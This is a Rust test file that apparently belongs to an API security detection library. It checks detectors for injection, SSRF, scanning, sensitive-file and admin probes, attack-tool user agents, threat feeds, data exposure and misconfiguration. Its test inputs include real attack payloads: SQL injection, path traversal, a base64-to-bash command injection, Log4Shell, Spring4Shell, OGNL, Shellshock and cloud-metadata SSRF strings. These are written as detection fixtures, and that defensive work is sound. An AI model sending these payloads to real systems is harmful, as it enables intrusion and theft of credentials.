//! Data-driven cases for each content detector: a few events in, the alerts out
//! (`detector: title` per alert, in order), or nothing.

use std::borrow::Cow;
use std::net::IpAddr;
use std::sync::Arc;

use rampart_detect::registry::{Resources, Settings};
use rampart_detect::{Detector, EventCtx};
use rampart_model::{ApiEvent, EventKind, Timestamp};
use rampart_signatures::builtin_with;
use rampart_signatures::intel::{FeedFormat, ThreatIntel};
use rampart_signatures::inventory::OpenApiSpec;

/// `"GET /path?query 200"` from 203.0.113.9, one second apart per index.
fn ev(req: &'static str) -> ApiEvent<'static> {
    let mut parts = req.rsplitn(2, ' ');
    let status = parts.next().and_then(|s| s.parse().ok()).unwrap_or(200);
    let rest = parts.next().unwrap_or("");
    let (method, target) = rest.split_once(' ').unwrap_or((rest, ""));
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    ApiEvent {
        ts: Timestamp::from_secs(1_700_000_000),
        client_ip: Some("203.0.113.9".parse().unwrap()),
        method: Cow::Borrowed(method),
        host: Cow::Borrowed("api.example.com"),
        path: Cow::Borrowed(path),
        query: Cow::Borrowed(query),
        protocol: Cow::Borrowed("HTTP/1.1"),
        status,
        user_agent: Cow::Borrowed("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"),
        ..Default::default()
    }
}

fn run_with(res: &Resources, id: &str, events: Vec<ApiEvent<'static>>) -> String {
    let mut dets: Vec<Box<dyn Detector>> = builtin_with(&Settings::default(), res)
        .into_iter()
        .filter(|d| d.id() == id)
        .collect();
    assert_eq!(dets.len(), 1, "unknown detector {id}");
    let mut out = Vec::new();
    for (i, mut e) in events.into_iter().enumerate() {
        e.ts = e.ts.add_millis(i as i64 * 1000);
        let cx = EventCtx::new(&e);
        dets[0].observe(&cx, &mut out);
    }
    for a in &out {
        assert_eq!(a.detector, id);
        assert!(!a.description.is_empty() && !a.mitre.is_empty());
        assert!(a.evidence.len() <= rampart_model::MAX_EVIDENCE);
    }
    out.iter()
        .map(|a| a.title.clone())
        .collect::<Vec<_>>()
        .join(" | ")
}

#[test]
fn scripting_clients_are_flagged_only_when_asked() {
    let mut settings = Settings::default();
    settings.set(
        "suspicious_user_agent",
        &rampart_signatures::user_agent::UserAgentConfig {
            flag_scripting_clients: true,
            ..Default::default()
        },
    );
    let mut dets: Vec<Box<dyn Detector>> = builtin_with(&settings, &Resources::default())
        .into_iter()
        .filter(|d| d.id() == "suspicious_user_agent")
        .collect();
    let e = with_ua(ev("GET / 200"), "python-requests/2.31.0");
    let mut out = Vec::new();
    dets[0].observe(&EventCtx::new(&e), &mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].title, "Scripting client user agent: python-requests");
}

fn check(id: &str, events: Vec<ApiEvent<'static>>, expected: &str) {
    assert_eq!(run_with(&Resources::default(), id, events), expected);
}

fn with_ua(mut e: ApiEvent<'static>, ua: &'static str) -> ApiEvent<'static> {
    e.user_agent = Cow::Borrowed(ua);
    e
}

fn with_body(mut e: ApiEvent<'static>, body: &'static str) -> ApiEvent<'static> {
    e.request_body = Some(Cow::Borrowed(body));
    e
}

fn with_response(mut e: ApiEvent<'static>, body: &'static str) -> ApiEvent<'static> {
    e.response_body = Some(Cow::Borrowed(body));
    e
}

fn from_ip(mut e: ApiEvent<'static>, ip: &str) -> ApiEvent<'static> {
    e.client_ip = Some(ip.parse::<IpAddr>().unwrap());
    e
}

// ---- injection ----

#[test]
fn injection_families() {
    check(
        "injection",
        vec![ev("GET /foo?a=%20union%20select%20 404")],
        "SQL injection attempt",
    );
    check(
        "injection",
        vec![ev("GET /foo?a=1'+or+1=1-- 200")],
        "SQL injection attempt",
    );
    check(
        "injection",
        vec![ev("GET /foo?a=sleep%285%29 200")],
        "SQL injection attempt",
    );
    check(
        "injection",
        vec![ev("GET /foo?a=phpinfo() 200")],
        "PHP code injection attempt",
    );
    check(
        "injection",
        vec![ev("GET /foo?a=x/....//....//etc/hosts 200")],
        "Path traversal attempt",
    );
    check(
        "injection",
        vec![ev("GET /foo?a=%3Cscript%3Ealert(1) 200")],
        "Cross-site scripting attempt",
    );
    check(
        "injection",
        vec![ev("GET /x?next=javascript:alert(1) 200")],
        "Cross-site scripting attempt",
    );
    check(
        "injection",
        vec![ev("GET /%2fetc%2fpasswd 404")],
        "Path traversal attempt",
    );
    check(
        "injection",
        vec![ev("GET /%252E%252E%252Ffoo 404")],
        "Path traversal attempt",
    );
    check(
        "injection",
        vec![ev("POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh 200")],
        "Command injection attempt | Path traversal attempt",
    );
    check(
        "injection",
        vec![ev(
            "POST /index.php?login=$(echo${IFS}aGk=|base64${IFS}-d|bash) 302",
        )],
        "Command injection attempt",
    );
    check(
        "injection",
        vec![with_ua(ev("GET / 200"), "${jndi:ldap://x.y/a}")],
        "Log4Shell JNDI injection attempt",
    );
    check(
        "injection",
        vec![with_ua(
            ev("GET / 200"),
            "${${lower:j}ndi:${lower:l}dap://x/a}",
        )],
        "Log4Shell JNDI injection attempt",
    );
    check(
        "injection",
        vec![ev(
            "GET /?search=%24%7Bscript%3Ajs%3Ajava.lang.Runtime%7D 404",
        )],
        "Text4Shell interpolation injection attempt",
    );
    check(
        "injection",
        vec![ev("GET /path/?class.module.classLoader.URLs%5B0%5D=0 404")],
        "Spring4Shell class-loader manipulation attempt",
    );
    check(
        "injection",
        vec![ev(
            "GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/ 404",
        )],
        "OGNL expression injection attempt",
    );
    check(
        "injection",
        vec![ev(
            "GET /?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array 200",
        )],
        "PHP code injection attempt",
    );
    check(
        "injection",
        vec![with_body(ev("POST /render 200"), r#"{"tpl":"{{7*7}}"}"#)],
        "Server-side template injection attempt",
    );
}

#[test]
fn injection_cooldown_per_family() {
    check(
        "injection",
        vec![
            ev("GET /a?q=union+select+1 404"),
            ev("GET /b?q=union+select+2 404"),
            ev("GET /c?q=<script> 404"),
        ],
        "SQL injection attempt | Cross-site scripting attempt",
    );
}

#[test]
fn injection_ignores_benign_api_traffic() {
    check(
        "injection",
        vec![
            ev("GET /api/v2/users/12345 200"),
            ev("GET /api/v2/search?q=red%20shoes&sort=-price 200"),
            ev("GET /api/v2/items?ids=1,2,3&fields=name,price 200"),
            ev("GET /Items/5203a7/Images/Primary?MaxHeight=330&Tags=null 404"),
            ev("GET /index.php/apps/mail/api/avatars/url/noreply%40test.fr 404"),
            ev("GET /api/v1/docs?select=name&order=desc 200"),
            with_body(ev("POST /api/v2/orders 201"), r#"{"name":"Alice O'Brien","note":"100% cotton, size 1=1"}"#),
            with_ua(ev("GET / 200"), "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
            ev("GET /api/sleepy-cat/resleep(1) 200"),
            ev("GET /get/foo../1234 200"),
            ev("GET /get/javascript-manual/document.cookie 200"),
            ev("GET /get/foo.../1234 200"),
            ev("GET /docs?test=Moreover,%20phpinfo%20can%20leak%20details 200"),
            with_body(ev("POST /upload 200"), "--b\nContent-Disposition: form-data; name=\"file\"; filename=\"safe.phpinfo\"\n\nhi\n--b--"),
        ],
        "",
    );
}

// ---- ssrf ----

#[test]
fn ssrf_cases() {
    let t = "Server-side request forgery attempt";
    check(
        "ssrf",
        vec![ev(
            "GET /fetch?url=http://169.254.169.254/latest/meta-data/ 200",
        )],
        t,
    );
    check(
        "ssrf",
        vec![ev(
            "GET /fetch?url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin 200",
        )],
        t,
    );
    check("ssrf", vec![ev("GET /fetch?u=http://2130706433/ 200")], t);
    check("ssrf", vec![ev("GET /fetch?u=http://0x7f000001/ 200")], t);
    check("ssrf", vec![ev("GET /fetch?u=http://[::1]:80/ 200")], t);
    check(
        "ssrf",
        vec![ev(
            "GET /fetch?u=http://metadata.google.internal/computeMetadata/v1/ 200",
        )],
        t,
    );
    check("ssrf", vec![ev("GET /logo?url=file:///etc/passwd 404")], t);
    check(
        "ssrf",
        vec![ev("GET /x?u=gopher://10.0.0.1:6379/_INFO 200")],
        t,
    );
    check(
        "ssrf",
        vec![with_body(
            ev("POST /webhooks 201"),
            r#"{"callback":"http://192.168.1.10/hook"}"#,
        )],
        t,
    );
    check(
        "ssrf",
        vec![ev("GET /logo?url=https://cdn.example.com/a.png 200")],
        "",
    );
    check(
        "ssrf",
        vec![ev("GET /r?next=https://app.example.com/home 302")],
        "",
    );
    check(
        "ssrf",
        vec![with_body(
            ev("POST /x 200"),
            r#"{"site":"https://8.8.8.8/"}"#,
        )],
        "",
    );
}

// ---- scanner ----

#[test]
fn scanner_fires_on_many_distinct_404s() {
    let evs: Vec<_> = [
        "/a", "/b", "/c", "/d", "/e", "/f", "/g", "/h", "/i", "/j", "/k",
    ]
    .iter()
    .map(|p| {
        let mut e = ev("GET /x 404");
        e.path = Cow::Borrowed(p);
        e
    })
    .collect();
    check("scanner", evs, "Content discovery scan");
}

#[test]
fn scanner_ignores_static_and_repeats() {
    let mut evs: Vec<_> = (0..20).map(|_| ev("GET /missing 404")).collect();
    for p in [
        "/a.js", "/b.css", "/c.png", "/d.woff2", "/e.svg", "/f.ico", "/g.map", "/h.jpg", "/i.gif",
        "/j.webp",
    ] {
        let mut e = ev("GET /x 404");
        e.path = Cow::Borrowed(p);
        evs.push(e);
    }
    check("scanner", evs, "");
}

// ---- sensitive files and admin probes ----

#[test]
fn sensitive_file_cases() {
    check(
        "sensitive_file_probe",
        vec![ev("GET /.env 404")],
        "Probing for sensitive files",
    );
    check(
        "sensitive_file_probe",
        vec![ev("GET /.git/config 200")],
        "Sensitive file served to a probing client",
    );
    check(
        "sensitive_file_probe",
        vec![ev("GET /app/.ssh/id_rsa 403")],
        "Probing for sensitive files",
    );
    check(
        "sensitive_file_probe",
        vec![
            ev("GET /.bashrc 404"),
            ev("GET /.profile 404"),
            ev("GET /dump.sql 404"),
        ],
        "Probing for sensitive files",
    );
    check(
        "sensitive_file_probe",
        vec![ev("GET /.bashrc 404"), ev("GET /.profile 404")],
        "",
    );
    // Served .sql files (migrations) are not probes.
    check(
        "sensitive_file_probe",
        vec![
            ev("GET /data/migrations/1_a.sql 200"),
            ev("GET /data/migrations/2_b.sql 200"),
            ev("GET /data/migrations/3_c.sql 304"),
        ],
        "",
    );
    check(
        "sensitive_file_probe",
        vec![ev("GET /api/environment 200"), ev("GET /docs/config 200")],
        "",
    );
}

#[test]
fn admin_probe_cases() {
    check(
        "admin_probe",
        vec![ev(
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php 200",
        )],
        "PHPUnit eval-stdin RCE probe (CVE-2017-9841)",
    );
    check(
        "admin_probe",
        vec![ev("GET /Telerik.Web.UI.WebResource.axd?type=rau 404")],
        "Telerik UI deserialization probe (CVE-2019-18935)",
    );
    check(
        "admin_probe",
        vec![ev("GET /Telerik.Web.UI.WebResource.axd?type=img 200")],
        "",
    );
    check(
        "admin_probe",
        vec![ev("GET /s72_Shell.php 404")],
        "Webshell access attempt",
    );
    check(
        "admin_probe",
        vec![
            ev("GET /phpmyadmin2017/index.php 404"),
            ev("GET /administrator/db/index.php 404"),
        ],
        "Admin interface probing",
    );
    // Real admin pages answering, and a single miss, are not probing.
    check(
        "admin_probe",
        vec![
            ev("POST /admin/login 302"),
            ev("GET /solr/admin/info/system 500"),
        ],
        "",
    );
    check("admin_probe", vec![ev("GET /wp-admin/ 404")], "");
    check(
        "admin_probe",
        vec![
            ev("GET /api/v2/admins/12 200"),
            ev("GET /api/console-logs 404"),
        ],
        "",
    );
}

// ---- user agents ----

#[test]
fn user_agent_cases() {
    check(
        "suspicious_user_agent",
        vec![with_ua(
            ev("GET / 200"),
            "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None)",
        )],
        "Attack tool user agent: Nikto",
    );
    check(
        "suspicious_user_agent",
        vec![with_ua(
            ev("GET / 200"),
            "sqlmap/1.7#stable (https://sqlmap.org)",
        )],
        "Attack tool user agent: sqlmap",
    );
    check(
        "suspicious_user_agent",
        vec![with_ua(ev("GET / 200"), "Mozilla/5.0 zgrab/0.x")],
        "Attack tool user agent: ZGrab",
    );
    check(
        "suspicious_user_agent",
        vec![with_ua(ev("GET / 200"), "() { :;}; /bin/bash -c 'id'")],
        "Exploit payload in user agent: Shellshock payload",
    );
    check(
        "suspicious_user_agent",
        vec![with_ua(ev("GET / 200"), "python-requests/2.31.0")],
        "",
    );
    check(
        "suspicious_user_agent",
        vec![with_ua(ev("GET / 200"), "urlgrabber/3.10 yum/3.4.3")],
        "",
    );
    check(
        "suspicious_user_agent",
        vec![with_ua(ev("GET / 200"), "curl/8.5.0")],
        "",
    );
    check(
        "suspicious_user_agent",
        vec![with_ua(ev("GET / 200"), "Go-http-client/1.1")],
        "",
    );
    check(
        "suspicious_user_agent",
        vec![
            with_ua(ev("GET / 200"), "okhttp/4.12.0"),
            with_ua(ev("GET / 200"), "Roku/DVP-13.1 (13.1.4.01510-30)"),
        ],
        "",
    );
}

// ---- protocol abuse ----

#[test]
fn protocol_cases() {
    check(
        "protocol_abuse",
        vec![ev("CONNECT foo.com:25 400")],
        "Open proxy probe",
    );
    check(
        "protocol_abuse",
        vec![ev("GET http://www.sbjudge4.com:80/ip4.php 400")],
        "Open proxy probe",
    );
    check(
        "protocol_abuse",
        vec![ev("GET /w00tw00t.at.ISC.SANS.DFind 404")],
        "w00tw00t scanner probe",
    );
    let mut e = ev("GET / 400");
    e.protocol = Cow::Borrowed("HTTP/1.2");
    check("protocol_abuse", vec![e], "Invalid HTTP version");
    let mut e = ev("GET / 400");
    e.method = Cow::Borrowed("\\x16\\x03\\x01");
    e.path = Cow::Borrowed("");
    e.protocol = Cow::Borrowed("");
    check("protocol_abuse", vec![e], "Malformed request line");
    for v in ["HTTP/1.0", "HTTP/2", "HTTP/2.0", "HTTP/3.0"] {
        let mut e = ev("GET / 200");
        e.protocol = Cow::Borrowed(v);
        check("protocol_abuse", vec![e], "");
    }
}

// ---- threat intel ----

#[test]
fn threat_intel_parse_and_swap() {
    let handle = Arc::new(rampart_signatures::intel::SharedIntel::from_pointee(
        ThreatIntel::empty(),
    ));
    let cfg = Resources::default().with(handle.clone());
    assert_eq!(run_with(&cfg, "threat_intel_ip", vec![ev("GET / 200")]), "");
    let feed = ThreatIntel::parse(
        "blocklist",
        FeedFormat::Plain,
        "# comment\n198.51.100.0/24\n203.0.113.9\n",
    )
    .unwrap();
    let tor = ThreatIntel::parse("tor", FeedFormat::Plain, "203.0.113.9\n").unwrap();
    handle.store(Arc::new(feed.with(tor)));
    assert_eq!(
        run_with(
            &cfg,
            "threat_intel_ip",
            vec![ev("GET / 200"), ev("GET /b 200")]
        ),
        "Request from an IP listed by threat feed blocklist"
    );
    assert_eq!(
        run_with(&cfg, "tor_exit", vec![ev("GET / 200")]),
        "Request from a Tor exit node"
    );
    assert_eq!(
        run_with(
            &cfg,
            "tor_exit",
            vec![from_ip(ev("GET / 200"), "198.51.100.7")]
        ),
        ""
    );
}

#[test]
fn threat_intel_formats() {
    let csv = ThreatIntel::parse(
        "c",
        FeedFormat::Csv,
        "first_seen,ip_address,port\n2024-01-01,192.0.2.1,80\n2024-01-01,2001:db8::/32,443\n",
    )
    .unwrap();
    assert!(csv.in_feed("c", "192.0.2.1".parse().unwrap()));
    assert!(csv.in_feed("c", "2001:db8::5".parse().unwrap()));
    assert!(!csv.in_feed("c", "192.0.2.2".parse().unwrap()));
    let stix = r#"{"type":"bundle","objects":[
        {"type":"indicator","pattern":"[ipv4-addr:value = '198.51.100.0/25'] OR [ipv4-addr:value = '192.0.2.9']"},
        {"type":"indicator","pattern":"[ipv6-addr:value = '2001:db8::1']"},
        {"type":"malware","name":"x"}]}"#;
    let s = ThreatIntel::parse("s", FeedFormat::Stix, stix).unwrap();
    assert!(s.in_feed("s", "198.51.100.127".parse().unwrap()));
    assert!(!s.in_feed("s", "198.51.100.128".parse().unwrap()));
    assert!(s.in_feed("s", "192.0.2.9".parse().unwrap()));
    assert!(s.in_feed("s", "2001:db8::1".parse().unwrap()));
    assert!(s.in_feed("s", "::ffff:192.0.2.9".parse().unwrap()));
    let err = ThreatIntel::parse("bad", FeedFormat::Plain, "1.2.3.4\nnot-an-ip\n").unwrap_err();
    assert_eq!(
        err.to_string(),
        "invalid plain feed \"bad\": line 2: not an ip or cidr: \"not-an-ip\""
    );
    assert!(ThreatIntel::parse("bad", FeedFormat::Csv, "a,b\n1,2\n").is_err());
    assert!(ThreatIntel::parse("bad", FeedFormat::Stix, "{").is_err());
}

// ---- data exposure and misconfiguration ----

#[test]
fn exposure_cases() {
    check(
        "sensitive_data_exposure",
        vec![with_response(
            ev("GET /api/users/1 200"),
            r#"{"card":"4111 1111 1111 1111"}"#,
        )],
        "Payment card numbers in a response",
    );
    check(
        "sensitive_data_exposure",
        vec![with_response(
            ev("GET /api/debug 200"),
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----",
        )],
        "Private key or cloud credential in a response",
    );
    check(
        "sensitive_data_exposure",
        vec![with_response(
            ev("GET /api/users/1 200"),
            r#"{"card":"4111 1111 1111 1112"}"#,
        )],
        "",
    );
    check(
        "sensitive_data_exposure",
        vec![with_response(
            ev("GET /api/users/1 404"),
            r#"{"card":"4111 1111 1111 1111"}"#,
        )],
        "",
    );
    check(
        "sensitive_data_exposure",
        vec![with_response(
            ev("GET /api/users/1 200"),
            r#"{"name":"Alice","email":"alice@example.com"}"#,
        )],
        "",
    );
}

#[test]
fn misconfig_cases() {
    check(
        "security_misconfig",
        vec![ev("TRACE / 200")],
        "HTTP TRACE enabled",
    );
    check("security_misconfig", vec![ev("TRACE / 405")], "");
    check(
        "security_misconfig",
        vec![with_response(
            ev("GET /api/x 500"),
            "Traceback (most recent call last):\n  File \"app.py\"",
        )],
        "Verbose error leaked: Python traceback",
    );
    check(
        "security_misconfig",
        vec![with_response(
            ev("GET /api/x 500"),
            "java.lang.NullPointerException\n\tat com.acme.Foo.bar(Foo.java:10)",
        )],
        "Verbose error leaked: Java stack trace",
    );
    check(
        "security_misconfig",
        vec![ev("GET /actuator/env 200")],
        "Debug endpoint exposed: /actuator/env",
    );
    check(
        "security_misconfig",
        vec![
            ev("GET /actuator/env 404"),
            with_response(ev("GET /api/x 500"), r#"{"error":"internal"}"#),
        ],
        "",
    );
}

// ---- inventory ----

#[test]
fn inventory_superseded_version_once_per_endpoint() {
    check(
        "improper_inventory",
        vec![
            ev("GET /api/v2/users/1 200"),
            ev("GET /api/v1/users/2 200"),
            ev("GET /api/v1/users/3 200"),
            ev("GET /api/v1/orders/3 200"),
        ],
        "Deprecated API version in use",
    );
}

#[test]
fn inventory_shadow_endpoints_against_spec() {
    let spec = OpenApiSpec::parse(
        "openapi: 3.0.0\nservers:\n  - url: https://api.example.com/api\npaths:\n  /users/{id}:\n    get: {}\n  /orders:\n    post: {}\n",
    )
    .unwrap();
    assert_eq!(spec.operations(), 2);
    assert!(spec.documents("GET", "/api/users/42"));
    assert!(!spec.documents("DELETE", "/api/users/42"));
    let cfg = Resources::default().with(Arc::new(spec));
    let got = run_with(
        &cfg,
        "improper_inventory",
        vec![
            ev("GET /api/users/1 200"),
            ev("POST /api/orders 201"),
            ev("GET /api/internal/export 200"),
            ev("GET /api/internal/export 200"),
            ev("GET /api/nothing-here 404"),
        ],
    );
    assert_eq!(got, "Undocumented (shadow) API endpoint in use");
    assert!(OpenApiSpec::parse("{\"openapi\":\"3.0.0\"}").is_err());
}

// ---- auth failures ----

fn failure(kind: EventKind, msg: &'static str) -> ApiEvent<'static> {
    let mut e = ev("GET / 0");
    e.kind = kind;
    e.message = Some(Cow::Borrowed(msg));
    e
}

#[test]
fn auth_failure_cases() {
    let f = || {
        failure(
            EventKind::AuthFailure,
            "user \"foo\" was not found in \"/tmp/a.htpasswd\"",
        )
    };
    check("auth_failures", vec![f(), f(), f()], "");
    check(
        "auth_failures",
        vec![f(), f(), f(), f()],
        "Burst of authentication failures",
    );
    check(
        "auth_failures",
        vec![failure(
            EventKind::Waf,
            "Coraza: Access denied (phase 2). Inbound Anomaly Score Exceeded (Total Score: 10)",
        )],
        "WAF blocked an attack",
    );
    check(
        "auth_failures",
        vec![failure(
            EventKind::Waf,
            "limiting requests, excess: 5.4 by zone",
        )],
        "",
    );
    check(
        "auth_failures",
        (0..5).map(|_| ev("GET /api/me 401")).collect(),
        "",
    );
    check(
        "auth_failures",
        (0..6).map(|_| ev("GET /api/me 401")).collect(),
        "Burst of authentication failures",
    );
}

#[test]
fn auth_failures_count_failed_html_form_logins() {
    // WordPress, Joomla and apisCP answer a failed form login with the form again (200).
    for path in [
        "/wp-login.php",
        "/blog/wp-login.php",
        "/administrator/index.php",
        "/apps/login",
    ] {
        let post = |status: &'static str| {
            let mut e = ev("POST / 200");
            e.path = Cow::Borrowed(path);
            e.status = status.parse().unwrap();
            e
        };
        check(
            "auth_failures",
            (0..6).map(|_| post("200")).collect(),
            "Burst of authentication failures",
        );
        check("auth_failures", (0..5).map(|_| post("200")).collect(), "");
        // A redirect is a successful login; GETs only show the form.
        check("auth_failures", (0..8).map(|_| post("302")).collect(), "");
    }
    check(
        "auth_failures",
        (0..8).map(|_| ev("GET /wp-login.php 200")).collect(),
        "",
    );
    // JSON APIs answer a successful login with 200: not counted.
    check(
        "auth_failures",
        (0..8).map(|_| ev("POST /api/v1/login 200")).collect(),
        "",
    );
    check(
        "auth_failures",
        (0..8)
            .map(|_| ev("POST /api/apps/login-history 200"))
            .collect(),
        "",
    );
}

#[test]
fn protocol_diagnostic_methods() {
    for m in ["TRACE", "TRACK", "DEBUG", "trace"] {
        let mut e = ev("GET /api/v2/orders 405");
        e.method = Cow::Borrowed(m);
        check("protocol_abuse", vec![e], "Diagnostic HTTP method");
    }
    // WebDAV and the ordinary API methods are not protocol abuse.
    for m in ["PROPFIND", "OPTIONS", "HEAD", "PATCH", "DELETE"] {
        let mut e = ev("GET /remote.php/dav/files/alice 207");
        e.method = Cow::Borrowed(m);
        check("protocol_abuse", vec![e], "");
    }
}
